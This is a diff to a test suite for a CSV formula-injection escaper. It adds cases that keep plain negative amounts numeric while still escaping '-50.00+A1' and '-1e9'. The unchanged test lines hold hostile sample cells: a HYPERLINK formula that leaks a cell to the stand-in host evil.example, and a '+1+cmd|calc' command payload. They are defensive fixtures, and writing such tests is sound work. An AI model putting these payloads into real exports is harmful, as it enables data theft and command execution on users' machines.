@@ -18,6 +18,10 @@ describe('CSV formula injection', () => {
     expect(csvCell('=HYPERLINK("https://evil.example/?leak="&A2,"x")')).toBe(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""x"")"`);
     expect(csvCell('+1+cmd|calc')).toBe("'+1+cmd|calc");
     expect(csvCell('-2+3')).toBe("'-2+3");
+    // A plain negative amount (a clawback) stays a number; anything after it makes it text again.
+    expect(csvCell('-50.00')).toBe('-50.00');
+    expect(csvCell('-50.00+A1')).toBe("'-50.00+A1");
+    expect(csvCell('-1e9')).toBe("'-1e9");
     expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
     expect(csvCell('\t=1')).toBe("'\t=1");
     expect(csvCell('\r=1')).toBe(`"'\r=1"`);
@@ -32,8 +36,10 @@ describe('CSV formula injection', () => {
         const [record] = parseCsv(csvLine(cells));
         expect(record!.fields.length).toBe(cells.length);
         record!.fields.forEach((f, i) => {
-          expect(f).not.toMatch(/^[=+\-@\t\r]/);
-          expect(f).toBe(/^[=+\-@\t\r]/.test(cells[i]!) ? `'${cells[i]}` : cells[i]);
+          // A plain negative amount is a number to a spreadsheet, never a formula: written as it is.
+          const number = /^-\d+(\.\d+)?$/.test(cells[i]!);
+          if (!number) expect(f).not.toMatch(/^[=+\-@\t\r]/);
+          expect(f).toBe(/^[=+\-@\t\r]/.test(cells[i]!) && !number ? `'${cells[i]}` : cells[i]);
         });
       }),
       { numRuns: 500 },
